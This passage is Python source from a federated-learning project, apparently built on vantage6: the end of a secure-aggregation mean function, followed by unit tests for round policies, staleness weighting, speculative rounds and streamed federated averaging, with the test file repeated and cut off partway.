            client.wait_for_results(tc["id"])
        except Exception as e:
            # a node we couldn't reach also delivered no update, but
            # keys left on disk weaken forward secrecy — say so
            log.warning("secagg ephemeral-key cleanup incomplete: %s", e)

    totals = decode_fixed(acc, scale_bits)
    _check_opened_totals(totals, survivors, "masked")
    return {
        "totals": totals,
        "participants": survivors,
        "dropped": dropped,
        "session": session,
        "aggregation_backend": stream.backend,
    }


@algorithm_client
def secure_mean(client, columns: Sequence[str],
                organizations: Sequence[int] | None = None,
                scale_bits: int = DEFAULT_SCALE_BITS,
                aggregation: str | None = None,
                round_policy: dict | str | None = None,
                _fail_org: int | None = None) -> dict:
    """Central: federated per-column mean where no individual org's sum
    is ever visible to the aggregator (see module docstring)."""
    out = secure_aggregate(client, columns, organizations,
                           scale_bits=scale_bits, aggregation=aggregation,
                           round_policy=round_policy,
                           _fail_org=_fail_org)
    totals = out["totals"]
    mean = {
        c: float(totals[2 * k] / totals[2 * k + 1])
        for k, c in enumerate(columns)
    }
    return {
        "mean": mean,
        "n": int(round(float(totals[1]))),
        "participants": len(out["participants"]),
        "dropped": out["dropped"],
    }
