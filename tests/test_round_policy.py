"""Round policies (common.rounds) — hermetic unit tests.

Covers the tentpole's driver-side machinery without a network:

* ``RoundPolicy`` validation / ``from_spec`` wire forms;
* ``staleness_weight`` math;
* ``RoundBuffer`` bound + drop counter;
* ``iter_round`` quorum/deadline closes against a scripted client
  (including the laggard task kill);
* ``run_async_rounds`` advance/staleness/discard accounting against a
  scripted client (dedupe on run id, straggler teardown kill);
* FedAvgStream staleness-weighted accumulation, BIT-exact against a
  reference that mirrors the streamed op sequence (same jitted
  primitives, same renorm cadence) across renorm boundaries, for
  alpha ∈ {1.0, 0.5} and staleness 0–3 (forced ``_stream=True``, CPU).
"""

from __future__ import annotations

import itertools

import numpy as np
import pytest

from vantage6_trn.common import telemetry
from vantage6_trn.common.rounds import (
    RoundBuffer,
    RoundPolicy,
    iter_round,
    run_async_rounds,
    staleness_weight,
)
from vantage6_trn.ops.aggregate import (
    FedAvgStream,
    _fedavg_stream_fns,
    flatten_params,
    unflatten_params,
)


def _counter(name, **labels):
    return telemetry.REGISTRY.value(name, **labels)


# --- RoundPolicy ---------------------------------------------------------

def test_policy_defaults_to_sync():
    p = RoundPolicy.from_spec(None)
    assert p.mode == "sync"
    assert RoundPolicy.from_spec(p) is p
    # a bare "quorum" string has neither quorum nor deadline: invalid
    with pytest.raises(ValueError):
        RoundPolicy.from_spec("quorum")


def test_policy_from_spec_forms():
    d = {"mode": "quorum", "quorum": 3, "deadline_s": 2.5}
    p = RoundPolicy.from_spec(d)
    assert (p.mode, p.quorum, p.deadline_s) == ("quorum", 3, 2.5)
    assert RoundPolicy.from_spec(p.to_dict()) == p
    assert RoundPolicy.from_spec("async").mode == "async"
    with pytest.raises(TypeError):
        RoundPolicy.from_spec(42)


@pytest.mark.parametrize("bad", [
    {"mode": "nope"},
    {"mode": "quorum"},                       # needs quorum or deadline
    {"mode": "quorum", "quorum": 0},
    {"mode": "quorum", "deadline_s": 0.0},
    {"mode": "async", "alpha": 0.0},
    {"mode": "async", "alpha": 1.5},
    {"mode": "async", "staleness_cutoff": -1},
    {"mode": "async", "advance_every_s": 0.0},
    {"mode": "async", "min_updates": 0},
    {"mode": "async", "buffer_cap": 0},
])
def test_policy_validation_rejects(bad):
    with pytest.raises(ValueError):
        RoundPolicy.from_spec(bad)


def test_staleness_weight_math():
    assert staleness_weight(10, 0, 0.5) == 10.0
    assert staleness_weight(10, 3, 0.5) == 1.25
    assert staleness_weight(7, 5, 1.0) == 7.0
    with pytest.raises(ValueError):
        staleness_weight(1, -1, 0.5)


# --- RoundBuffer ---------------------------------------------------------

def test_round_buffer_drop_oldest_counts():
    before = _counter("v6_buffer_dropped_total", buffer="round")
    buf = RoundBuffer(cap=3)
    for i in range(5):
        buf.push(org_id=i, update_round=0, update={"i": i})
    assert len(buf) == 3
    assert buf.dropped == 2
    assert _counter("v6_buffer_dropped_total", buffer="round") \
        == before + 2
    # oldest evicted, newest kept, drain empties
    assert [e[0] for e in buf.drain()] == [2, 3, 4]
    assert len(buf) == 0


# --- scripted clients ----------------------------------------------------

class _Task:
    def __init__(self, parent):
        self.parent = parent

    def create(self, input_=None, organizations=(), name="",
               delta_base=None, **kw):
        tid = next(self.parent._ids)
        self.parent.tasks[tid] = {"orgs": list(organizations),
                                  "input": input_,
                                  "delta_base": delta_base}
        return {"id": tid}

    def kill(self, task_id):
        self.parent.killed.append(task_id)


class _ScriptedClient:
    """poll_results plays back a per-task script of (min_poll_number,
    item) entries; 'done' once every scripted item was delivered."""

    timeout = 10.0

    def __init__(self):
        self._ids = itertools.count(1)
        self.tasks = {}
        self.killed = []
        self.scripts = {}       # task_id -> list[(ready_at_poll, item)]
        self.polls = {}         # task_id -> count
        self.task = _Task(self)

    def poll_results(self, task_id, exclude=(), wait_s=0.0, raw=False):
        self.polls[task_id] = self.polls.get(task_id, 0) + 1
        n = self.polls[task_id]
        script = self.scripts.get(task_id, [])
        items = [dict(item) for at, item in script
                 if at <= n and item["run_id"] not in set(exclude)]
        done = all(at <= n for at, _ in script) and bool(script)
        return items, done

    def iter_results(self, task_id, raw=False):
        seen = set()
        while True:
            items, done = self.poll_results(task_id, exclude=seen, raw=raw)
            for it in items:
                seen.add(it["run_id"])
                yield it
            if done:
                return


def _ok(run_id, org, weights=None, n=5):
    return {"run_id": run_id, "organization_id": org, "status": "completed",
            "result": {"weights": weights or {"w": np.ones(2, np.float32)},
                       "n": n, "loss": 1.0}}


# --- iter_round ----------------------------------------------------------

def test_iter_round_sync_is_iter_results():
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (2, _ok(12, 2))]
    before = _counter("v6_round_closes_total", mode="sync", cause="barrier")
    got = list(iter_round(c, t, RoundPolicy()))
    assert [g["run_id"] for g in got] == [11, 12]
    assert c.killed == []
    assert _counter("v6_round_closes_total", mode="sync",
                    cause="barrier") == before + 1


def test_iter_round_quorum_closes_early_and_kills():
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2, 3, 4])["id"]
    # org 4 never delivers (ready_at far beyond the quorum close)
    c.scripts[t] = [(1, _ok(11, 1)), (1, _ok(12, 2)), (2, _ok(13, 3)),
                    (10_000, _ok(14, 4))]
    before = _counter("v6_round_closes_total", mode="quorum",
                      cause="quorum")
    pol = RoundPolicy(mode="quorum", quorum=3, deadline_s=30.0)
    got = list(iter_round(c, t, pol))
    assert [g["run_id"] for g in got] == [11, 12, 13]
    assert c.killed == [t]          # laggard run cancelled exactly once
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="quorum") == before + 1


def test_iter_round_deadline_close_yields_partial():
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (10 ** 9, _ok(12, 2))]
    before = _counter("v6_round_closes_total", mode="quorum",
                      cause="deadline")
    pol = RoundPolicy(mode="quorum", quorum=2, deadline_s=0.3)
    got = list(iter_round(c, t, pol))
    assert [g["run_id"] for g in got] == [11]
    assert c.killed == [t]
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="deadline") == before + 1


def test_iter_round_quorum_reaches_barrier_without_kill():
    """Everyone arrives before quorum/deadline fire: no cancellation."""
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (1, _ok(12, 2))]
    pol = RoundPolicy(mode="quorum", quorum=5, deadline_s=30.0)
    got = list(iter_round(c, t, pol))
    assert len(got) == 2
    assert c.killed == []


def test_iter_round_rejects_async_mode():
    with pytest.raises(ValueError):
        list(iter_round(_ScriptedClient(), 1, RoundPolicy(mode="async")))


# --- run_async_rounds ----------------------------------------------------

def _async_client(delays: dict):
    """Client whose org->task completes ``delays[org]`` polls after its
    dispatch (each org gets a fresh task per dispatch)."""

    class _C(_ScriptedClient):
        _run_ids = itertools.count(100)

        def __init__(self):
            super().__init__()
            self.task = _Task(self)

    c = _C()
    orig_create = c.task.create

    def create(input_=None, organizations=(), name="", delta_base=None,
               **kw):
        out = orig_create(input_=input_, organizations=organizations,
                          name=name, delta_base=delta_base, **kw)
        (org,) = organizations
        c.scripts[out["id"]] = [
            (delays.get(org, 1), _ok(next(_C._run_ids), org))
        ]
        return out

    c.task.create = create
    return c


def test_async_rounds_advance_past_straggler():
    # org 9 never completes; orgs 1 and 2 complete every dispatch
    c = _async_client({1: 1, 2: 1, 9: 10_000_000})
    pol = RoundPolicy(mode="async", advance_every_s=0.001, alpha=0.5,
                      staleness_cutoff=3)
    out = run_async_rounds(
        c, orgs=[1, 2, 9], rounds=3, policy=pol,
        make_input=lambda w: {"weights": w}, name="t",
    )
    assert out["rounds_advanced"] == 3
    assert len(out["history"]) == 3
    # each advance saw at least one update, never the straggler's
    for h in out["history"]:
        assert h["updates"] >= 1
        assert 9 not in h["orgs"]
    # the straggler's outstanding task was killed exactly once at
    # teardown (plus any other still-outstanding dispatches)
    straggler_tasks = [tid for tid, t in c.tasks.items()
                       if t["orgs"] == [9]]
    assert len(straggler_tasks) == 1     # never re-dispatched
    assert straggler_tasks[0] in c.killed
    assert c.killed.count(straggler_tasks[0]) == 1
    assert out["stats"]["updates"] == sum(h["updates"]
                                          for h in out["history"])
    assert out["stats"]["discarded"] == 0


def test_async_rounds_discards_past_cutoff():
    """An update older than staleness_cutoff global rounds is dropped
    and counted, never averaged in."""
    c = _async_client({1: 1, 5: 9})   # org 5's update lands 9 polls in
    before = _counter("v6_round_late_results_total",
                      disposition="discarded")
    pol = RoundPolicy(mode="async", advance_every_s=0.0001, alpha=0.5,
                      staleness_cutoff=0)  # any staleness>0 discards
    out = run_async_rounds(
        c, orgs=[1, 5], rounds=6, policy=pol,
        make_input=lambda w: {"weights": w}, name="t",
    )
    assert out["rounds_advanced"] == 6
    assert out["stats"]["discarded"] >= 1
    assert _counter("v6_round_late_results_total",
                    disposition="discarded") >= before + 1
    # the discarded org never contributed to an advance
    assert all(5 not in h["orgs"] for h in out["history"])


def test_async_rounds_never_double_counts_a_run():
    """poll_results returning the same run repeatedly must fold it in
    once: the engine excludes consumed run ids per outstanding task."""
    c = _async_client({1: 1, 2: 2})
    pol = RoundPolicy(mode="async", advance_every_s=0.0001)
    out = run_async_rounds(
        c, orgs=[1, 2], rounds=4, policy=pol,
        make_input=lambda w: {"weights": w}, name="t",
    )
    # every counted update corresponds to one distinct dispatched task
    # completing — no update delivered twice (scripted: one run/task)
    assert out["stats"]["updates"] <= out["stats"]["dispatched"]
    assert out["rounds_advanced"] == 4


def test_async_rounds_requires_orgs():
    with pytest.raises(ValueError):
        run_async_rounds(_ScriptedClient(), orgs=[], rounds=1,
                         policy=RoundPolicy(mode="async"),
                         make_input=lambda w: {})


def test_async_rounds_times_out_when_stalled():
    c = _async_client({7: 10_000_000})
    c.timeout = 0.2
    pol = RoundPolicy(mode="async", advance_every_s=0.01)
    with pytest.raises(TimeoutError):
        run_async_rounds(c, orgs=[7], rounds=1, policy=pol,
                         make_input=lambda w: {})
    # the stalled dispatch is still reaped on the error path
    assert len(c.killed) == 1


# --- FedAvgStream staleness math (satellite: bit-exact) ------------------

def _reference_stream(updates, weights):
    """Mirror FedAvgStream's streamed op sequence exactly: same jitted
    primitives (scale / acc+row*w / renorm), same f32 casts, same
    RENORM_EVERY cadence and weight-fold bookkeeping."""
    import jax

    scale, acc_add, renorm = _fedavg_stream_fns()
    acc, wsum, wdiv, spec = None, 0.0, 1.0, None
    for i, (u, w_raw) in enumerate(zip(updates, weights), start=1):
        flat, spec = flatten_params(u)
        w = float(w_raw) / wdiv
        wsum += w
        row = jax.device_put(flat)
        wa = np.float32(w)
        acc = scale(row, wa) if acc is None else acc_add(acc, row, wa)
        if i % FedAvgStream.RENORM_EVERY == 0 and wsum > 0:
            acc = renorm(acc, np.float32(wsum))
            wdiv *= wsum
            wsum = 1.0
    flat = np.asarray(acc).reshape(-1) / np.float32(wsum)
    return unflatten_params(flat, spec)


@pytest.mark.parametrize("alpha", [1.0, 0.5])
def test_fedavg_stream_staleness_weights_bit_exact(alpha):
    """300 staleness-weighted updates (staleness 0–3) cross the renorm
    boundary twice; the streamed result must be BIT-identical to the
    mirrored reference and within f32 rounding of the f64 ground truth.
    """
    rng = np.random.default_rng(42)
    n_updates = 300
    updates = [{"w0": rng.normal(size=(5, 3)).astype(np.float32),
                "b0": rng.normal(size=(3,)).astype(np.float32)}
               for _ in range(n_updates)]
    ns = rng.integers(1, 50, size=n_updates)
    staleness = rng.integers(0, 4, size=n_updates)   # 0..3 inclusive
    ws = [staleness_weight(int(n), int(s), alpha)
          for n, s in zip(ns, staleness)]

    stream = FedAvgStream()
    stream._stream = True      # force the streamed path on CPU
    for u, w in zip(updates, ws):
        stream.add(u, w)
    assert len(stream) == n_updates
    got = stream.finish()

    ref = _reference_stream(updates, ws)
    for k in ref:
        np.testing.assert_array_equal(
            np.asarray(got[k]), np.asarray(ref[k]),
            err_msg=f"leaf {k!r} diverged from the mirrored reference "
                    f"(alpha={alpha})")

    # and the weighted mean is right: f64 ground truth within f32 noise
    wsum = float(np.sum(ws))
    for k in ref:
        truth = sum(u[k].astype(np.float64) * w
                    for u, w in zip(updates, ws)) / wsum
        np.testing.assert_allclose(np.asarray(got[k]), truth,
                                   rtol=2e-5, atol=2e-6)


def test_fedavg_stream_renorm_matches_host_path():
    """Streamed (renorming) and host-batch paths agree to f32 noise —
    the renorm fold must not change what finish() means."""
    rng = np.random.default_rng(0)
    updates = [{"w": rng.normal(size=(16,)).astype(np.float32)}
               for _ in range(200)]
    ws = rng.uniform(0.25, 4.0, size=200)

    s_dev = FedAvgStream()
    s_dev._stream = True
    s_host = FedAvgStream()    # _stream False off-neuron → batch path
    s_host._stream = False
    for u, w in zip(updates, ws):
        s_dev.add(u, float(w))
        s_host.add(u, float(w))
    np.testing.assert_allclose(
        np.asarray(s_dev.finish()["w"]),
        np.asarray(s_host.finish()["w"]), rtol=2e-5, atol=2e-6)


# --- RoundBuffer eviction ordering ---------------------------------------

def test_round_buffer_eviction_is_strictly_fifo():
    """Interleaved pushes past the cap evict in exact arrival order —
    the survivor window always holds the most recent ``cap`` entries,
    whatever orgs/rounds they carry."""
    buf = RoundBuffer(cap=4)
    pushes = [(org, rnd) for rnd in range(3) for org in (7, 3, 9)]
    for org, rnd in pushes:
        buf.push(org, rnd, {"tag": (org, rnd)})
    assert buf.dropped == len(pushes) - 4
    kept = [(o, r) for o, r, _ in buf.drain()]
    assert kept == pushes[-4:]          # drop-oldest, order preserved
    # refilling after a drain starts a fresh window, dropped is cumulative
    buf.push(1, 9, {})
    assert len(buf) == 1 and buf.dropped == len(pushes) - 4


# --- deadline-exactly-at-quorum ------------------------------------------

class _SlowPollClient(_ScriptedClient):
    """Each poll burns past the deadline BEFORE returning its items:
    by the time the quorum-th item is processed the deadline has also
    expired — the tie the close-cause counter must break the same way
    every time."""

    def __init__(self, poll_cost_s):
        super().__init__()
        self._cost = poll_cost_s

    def poll_results(self, task_id, exclude=(), wait_s=0.0, raw=False):
        import time as _t
        _t.sleep(self._cost)
        return super().poll_results(task_id, exclude=exclude,
                                    wait_s=wait_s, raw=raw)


def test_iter_round_deadline_tie_breaks_to_quorum():
    """Quorum satisfied by items from a poll that ALSO outlived the
    deadline: items yield first, so the close is deterministically
    'quorum' (never 'deadline'), and the laggard kill fires once."""
    c = _SlowPollClient(poll_cost_s=0.05)
    t = c.task.create(input_={}, organizations=[1, 2, 3])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (1, _ok(12, 2)),
                    (10_000, _ok(13, 3))]
    before_q = _counter("v6_round_closes_total", mode="quorum",
                        cause="quorum")
    before_d = _counter("v6_round_closes_total", mode="quorum",
                        cause="deadline")
    pol = RoundPolicy(mode="quorum", quorum=2, deadline_s=0.01)
    got = list(iter_round(c, t, pol))
    assert [g["run_id"] for g in got] == [11, 12]
    assert c.killed == [t]
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="quorum") == before_q + 1
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="deadline") == before_d
    # the mirror tie: deadline expires with the quorum-th item NOT in
    # the batch — deterministically 'deadline'
    c2 = _SlowPollClient(poll_cost_s=0.05)
    t2 = c2.task.create(input_={}, organizations=[1, 2])["id"]
    c2.scripts[t2] = [(1, _ok(11, 1)), (10_000, _ok(12, 2))]
    got2 = list(iter_round(c2, t2, pol))
    assert [g["run_id"] for g in got2] == [11]
    assert _counter("v6_round_closes_total", mode="quorum",
                    cause="deadline") == before_d + 1


# --- run_pipelined_rounds (speculative dispatch) -------------------------

class _PipelineClient:
    """Raw-payload scripted federation for ``run_pipelined_rounds``:
    every task's per-org results are real ``encode_binary`` V6BN blobs
    computed from the task's OWN input weights (u = 0.9·w + 0.01·(org+1)),
    delivered in org order. ``diverge`` holds (task_seq, org) pairs
    whose update shifts by +3.0 — the breach injector. Killed tasks
    deliver nothing further."""

    def __init__(self, orgs, ns, diverge=()):
        from vantage6_trn.common.serialization import encode_binary

        self._encode = encode_binary
        self._orgs = list(orgs)
        self._ns = dict(ns)
        self._diverge = set(diverge)
        self.seq = 0
        self.tasks = {}
        self.killed = []
        self.task = self

    def create(self, input_=None, organizations=(), name="",
               delta_base=None, **kw):
        tid = self.seq
        self.seq += 1
        self.tasks[tid] = {"orgs": list(organizations),
                           "weights": input_["weights"],
                           "delivered": set(), "killed": False}
        return {"id": tid}

    def kill(self, task_id):
        self.killed.append(task_id)
        self.tasks[task_id]["killed"] = True

    def _blob(self, tid, org):
        w = self.tasks[tid]["weights"]
        u = {k: np.asarray(0.9 * np.asarray(v, np.float32)
                           + np.float32(0.01) * np.float32(org + 1),
                           np.float32) for k, v in w.items()}
        if (tid, org) in self._diverge:
            u = {k: np.asarray(v + np.float32(3.0), np.float32)
                 for k, v in u.items()}
        return self._encode({"weights": u, "n": self._ns[org],
                             "loss": 0.5})

    def poll_results(self, task_id, exclude=(), wait_s=0.0, raw=False):
        st = self.tasks[task_id]
        items = []
        if not st["killed"]:
            for org in st["orgs"]:
                if org in st["delivered"] or org in exclude:
                    continue
                st["delivered"].add(org)
                items.append({"run_id": org, "organization_id": org,
                              "result_blob": self._blob(task_id, org)})
        return items, st["killed"] or \
            len(st["delivered"]) == len(st["orgs"])

    def iter_results(self, task_id, raw=False):
        items, _ = self.poll_results(task_id)
        yield from items


def _pipe_init():
    return {"w": np.zeros(12, np.float32), "b": np.zeros(3, np.float32)}


def test_pipelined_rounds_quorum_commit_reuses_speculative_task():
    from vantage6_trn.common.rounds import run_pipelined_rounds

    orgs = [0, 1, 2, 3]
    ns = {o: 10.0 for o in orgs}
    pol = RoundPolicy(mode="quorum", quorum=3, deadline_s=30.0,
                      speculate=True)
    before_c = _counter("v6_round_speculation_total", result="committed")
    c = _PipelineClient(orgs, ns)
    out = run_pipelined_rounds(
        c, orgs=orgs, rounds=3, policy=pol,
        make_input=lambda w: {"weights": w}, init_weights=_pipe_init())
    # one task per round and nothing extra: every speculative dispatch
    # committed and BECAME the next round's task
    assert c.seq == 3
    assert out["stats"] == {**out["stats"], "speculated": 2,
                            "committed": 2, "aborted": 0}
    assert all(h["updates"] == 3 and h["committed"] == h["speculated"]
               for h in out["history"][:2])
    assert _counter("v6_round_speculation_total",
                    result="committed") == before_c + 2
    # bit-exact against the never-speculating twin (same fold order)
    base = run_pipelined_rounds(
        _PipelineClient(orgs, ns), orgs=orgs, rounds=3,
        policy=RoundPolicy(mode="quorum", quorum=3, deadline_s=30.0),
        make_input=lambda w: {"weights": w}, init_weights=_pipe_init())
    for k in out["weights"]:
        np.testing.assert_array_equal(np.asarray(out["weights"][k]),
                                      np.asarray(base["weights"][k]))


def test_pipelined_rounds_breach_aborts_once_and_corrects():
    """A late fold that moves the mean past speculate_eps: exactly one
    abort, exactly one speculative-task kill, the corrected re-dispatch
    carries the FINAL mean, and the end state is bit-exact vs a plain
    sync run folding the same updates."""
    from vantage6_trn.common.rounds import run_pipelined_rounds

    orgs = [0, 1, 2, 3]
    ns = {0: 10.0, 1: 20.0, 2: 30.0, 3: 40.0}
    # task seq 1 is round 1's cohort; org 3 (largest mass, delivered
    # last) diverges there. frac=0.5: round 1 speculates at the 3rd
    # fold (rem 40 / mass 100), round 0 only at the rem==0 barrier.
    diverge = {(1, 3)}
    pol = RoundPolicy(mode="sync", speculate=True, speculate_frac=0.5)
    before_a = _counter("v6_round_speculation_total", result="aborted")
    c = _PipelineClient(orgs, ns, diverge=diverge)
    out = run_pipelined_rounds(
        c, orgs=orgs, rounds=3, policy=pol,
        make_input=lambda w: {"weights": w}, init_weights=_pipe_init())
    assert out["stats"]["aborted"] == 1
    assert out["stats"]["speculated"] == 2   # r0 barrier + r1 breach
    assert out["stats"]["committed"] == 1
    assert len(c.killed) == 1
    killed = c.tasks[c.killed[0]]
    assert killed["killed"] and not killed["delivered"]  # never folded
    assert _counter("v6_round_speculation_total",
                    result="aborted") == before_a + 1
    # every round folded all four orgs exactly once
    assert [h["updates"] for h in out["history"]] == [4, 4, 4]
    # the corrected dispatch == what a plain sync driver sends
    plain = run_pipelined_rounds(
        _PipelineClient(orgs, ns, diverge=diverge), orgs=orgs, rounds=3,
        policy=RoundPolicy(mode="sync"),
        make_input=lambda w: {"weights": w}, init_weights=_pipe_init())
    for k in out["weights"]:
        np.testing.assert_array_equal(np.asarray(out["weights"][k]),
                                      np.asarray(plain["weights"][k]))


def test_pipelined_rounds_validation():
    from vantage6_trn.common.rounds import run_pipelined_rounds

    with pytest.raises(ValueError):
        RoundPolicy(mode="async", speculate=True)
    with pytest.raises(ValueError):
        RoundPolicy(speculate=True, speculate_frac=1.0)
    with pytest.raises(ValueError):
        RoundPolicy(speculate=True, speculate_eps=-0.1)
    with pytest.raises(ValueError):
        run_pipelined_rounds(
            _PipelineClient([], {}), orgs=[], rounds=1,
            policy=RoundPolicy(), make_input=lambda w: {"weights": w})
    with pytest.raises(ValueError):
        run_pipelined_rounds(
            _PipelineClient([1], {1: 1.0}), orgs=[1], rounds=1,
            policy=RoundPolicy(mode="async"),
            make_input=lambda w: {"weights": w})


# --- FedAvgStream.add_payload (per-frame fused fold) ---------------------

def _payload(tree, n, loss=0.25):
    from vantage6_trn.common.serialization import encode_binary

    return encode_binary({"weights": tree, "n": n, "loss": loss})


def test_add_payload_bit_exact_vs_add():
    """Folding the V6BN blob per-frame must produce BIT-identical
    results to decoding and folding the tree — same rows, same order,
    same arithmetic."""
    rng = np.random.default_rng(3)
    updates = [{"a": rng.normal(size=(64,)).astype(np.float32),
                "b": rng.normal(size=(8, 3)).astype(np.float32)}
               for _ in range(5)]
    ns = [10, 25, 5, 40, 20]
    s_add = FedAvgStream()
    s_pay = FedAvgStream()
    for u, n in zip(updates, ns):
        s_add.add(u, n)
        rest = s_pay.add_payload(_payload(u, n))
        assert rest["weights"] is None      # consumed per-frame
        assert rest["n"] == n and rest["loss"] == 0.25
    assert len(s_pay) == len(s_add) == 5
    assert s_pay.weight_mass() == pytest.approx(float(sum(ns)))
    got, want = s_pay.finish(), s_add.finish()
    for k in want:
        np.testing.assert_array_equal(np.asarray(got[k]),
                                      np.asarray(want[k]))


def test_add_payload_provisional_is_nondestructive_peek():
    rng = np.random.default_rng(4)
    s = FedAvgStream()
    for n in (10, 30):
        s.add_payload(_payload(
            {"w": rng.normal(size=(16,)).astype(np.float32)}, n))
    prov = s.provisional()
    s.add_payload(_payload(
        {"w": rng.normal(size=(16,)).astype(np.float32)}, 60))
    prov2 = s.provisional()
    final = s.finish()
    np.testing.assert_array_equal(np.asarray(prov2["w"]),
                                  np.asarray(final["w"]))
    assert not np.array_equal(np.asarray(prov["w"]),
                              np.asarray(final["w"]))


def test_add_payload_falls_back_for_unstreamable_layouts():
    """Payloads whose weights cannot be folded frame-wise (non-f4
    leaves) take the decode-and-add fallback — same math, and the rest
    dict still comes back with weights detached."""
    rng = np.random.default_rng(5)
    f4 = rng.normal(size=(6,)).astype(np.float32)
    mixed = {"w": f4, "idx": np.arange(4, dtype=np.int64)}
    s_pay = FedAvgStream()
    rest = s_pay.add_payload(_payload(mixed, 7))
    assert rest["weights"] is None and rest["n"] == 7
    s_add = FedAvgStream()
    s_add.add(mixed, 7)
    got, want = s_pay.finish(), s_add.finish()
    for k in want:
        np.testing.assert_array_equal(np.asarray(got[k]),
                                      np.asarray(want[k]))
