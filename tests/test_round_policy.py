"""Round policies (common.rounds) — hermetic unit tests.

Covers the tentpole's driver-side machinery without a network:

* ``RoundPolicy`` validation / ``from_spec`` wire forms;
* ``staleness_weight`` math;
* ``RoundBuffer`` bound + drop counter;
* ``iter_round`` quorum/deadline closes against a scripted client
  (including the laggard task kill);
* ``run_async_rounds`` advance/staleness/discard accounting against a
  scripted client (dedupe on run id, straggler teardown kill);
* FedAvgStream staleness-weighted accumulation, BIT-exact against a
  reference that mirrors the streamed op sequence (same jitted
  primitives, same renorm cadence) across renorm boundaries, for
  alpha ∈ {1.0, 0.5} and staleness 0–3 (forced ``_stream=True``, CPU).
"""

from __future__ import annotations

import itertools

import numpy as np
import pytest

from vantage6_trn.common import telemetry
from vantage6_trn.common.rounds import (
    RoundBuffer,
    RoundPolicy,
    iter_round,
    run_async_rounds,
    staleness_weight,
)
from vantage6_trn.ops.aggregate import (
    FedAvgStream,
    _fedavg_stream_fns,
    flatten_params,
    unflatten_params,
)


def _counter(name, **labels):
    return telemetry.REGISTRY.value(name, **labels)


# --- RoundPolicy ---------------------------------------------------------

def test_policy_defaults_to_sync():
    p = RoundPolicy.from_spec(None)
    assert p.mode == "sync"
    assert RoundPolicy.from_spec(p) is p
    # a bare "quorum" string has neither quorum nor deadline: invalid
    with pytest.raises(ValueError):
        RoundPolicy.from_spec("quorum")


def test_policy_from_spec_forms():
    d = {"mode": "quorum", "quorum": 3, "deadline_s": 2.5}
    p = RoundPolicy.from_spec(d)
    assert (p.mode, p.quorum, p.deadline_s) == ("quorum", 3, 2.5)
    assert RoundPolicy.from_spec(p.to_dict()) == p
    assert RoundPolicy.from_spec("async").mode == "async"
    with pytest.raises(TypeError):
        RoundPolicy.from_spec(42)


@pytest.mark.parametrize("bad", [
    {"mode": "nope"},
    {"mode": "quorum"},                       # needs quorum or deadline
    {"mode": "quorum", "quorum": 0},
    {"mode": "quorum", "deadline_s": 0.0},
    {"mode": "async", "alpha": 0.0},
    {"mode": "async", "alpha": 1.5},
    {"mode": "async", "staleness_cutoff": -1},
    {"mode": "async", "advance_every_s": 0.0},
    {"mode": "async", "min_updates": 0},
    {"mode": "async", "buffer_cap": 0},
])
def test_policy_validation_rejects(bad):
    with pytest.raises(ValueError):
        RoundPolicy.from_spec(bad)


def test_staleness_weight_math():
    assert staleness_weight(10, 0, 0.5) == 10.0
    assert staleness_weight(10, 3, 0.5) == 1.25
    assert staleness_weight(7, 5, 1.0) == 7.0
    with pytest.raises(ValueError):
        staleness_weight(1, -1, 0.5)


# --- RoundBuffer ---------------------------------------------------------

def test_round_buffer_drop_oldest_counts():
    before = _counter("v6_buffer_dropped_total", buffer="round")
    buf = RoundBuffer(cap=3)
    for i in range(5):
        buf.push(org_id=i, update_round=0, update={"i": i})
    assert len(buf) == 3
    assert buf.dropped == 2
    assert _counter("v6_buffer_dropped_total", buffer="round") \
        == before + 2
    # oldest evicted, newest kept, drain empties
    assert [e[0] for e in buf.drain()] == [2, 3, 4]
    assert len(buf) == 0


# --- scripted clients ----------------------------------------------------

class _Task:
    def __init__(self, parent):
        self.parent = parent

    def create(self, input_=None, organizations=(), name="",
               delta_base=None, **kw):
        tid = next(self.parent._ids)
        self.parent.tasks[tid] = {"orgs": list(organizations),
                                  "input": input_,
                                  "delta_base": delta_base}
        return {"id": tid}

    def kill(self, task_id):
        self.parent.killed.append(task_id)


class _ScriptedClient:
    """poll_results plays back a per-task script of (min_poll_number,
    item) entries; 'done' once every scripted item was delivered."""

    timeout = 10.0

    def __init__(self):
        self._ids = itertools.count(1)
        self.tasks = {}
        self.killed = []
        self.scripts = {}       # task_id -> list[(ready_at_poll, item)]
        self.polls = {}         # task_id -> count
        self.task = _Task(self)

    def poll_results(self, task_id, exclude=(), wait_s=0.0, raw=False):
        self.polls[task_id] = self.polls.get(task_id, 0) + 1
        n = self.polls[task_id]
        script = self.scripts.get(task_id, [])
        items = [dict(item) for at, item in script
                 if at <= n and item["run_id"] not in set(exclude)]
        done = all(at <= n for at, _ in script) and bool(script)
        return items, done

    def iter_results(self, task_id, raw=False):
        seen = set()
        while True:
            items, done = self.poll_results(task_id, exclude=seen, raw=raw)
            for it in items:
                seen.add(it["run_id"])
                yield it
            if done:
                return


def _ok(run_id, org, weights=None, n=5):
    return {"run_id": run_id, "organization_id": org, "status": "completed",
            "result": {"weights": weights or {"w": np.ones(2, np.float32)},
                       "n": n, "loss": 1.0}}


# --- iter_round ----------------------------------------------------------

def test_iter_round_sync_is_iter_results():
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2])["id"]
    c.scripts[t] = [(1, _ok(11, 1)), (2, _ok(12, 2))]
    before = _counter("v6_round_closes_total", mode="sync", cause="barrier")
    got = list(iter_round(c, t, RoundPolicy()))
    assert [g["run_id"] for g in got] == [11, 12]
    assert c.killed == []
    assert _counter("v6_round_closes_total", mode="sync",
                    cause="barrier") == before + 1


def test_iter_round_quorum_closes_early_and_kills():
    c = _ScriptedClient()
    t = c.task.create(input_={}, organizations=[1, 2, 3, 4])["id"]
    # org 4 never delivers (ready_at far beyond the quorum close)
    c.scripts[t] = [(1, _ok(11, 1)), (1, _ok(12, 2)), (2, _ok(13, 3)),
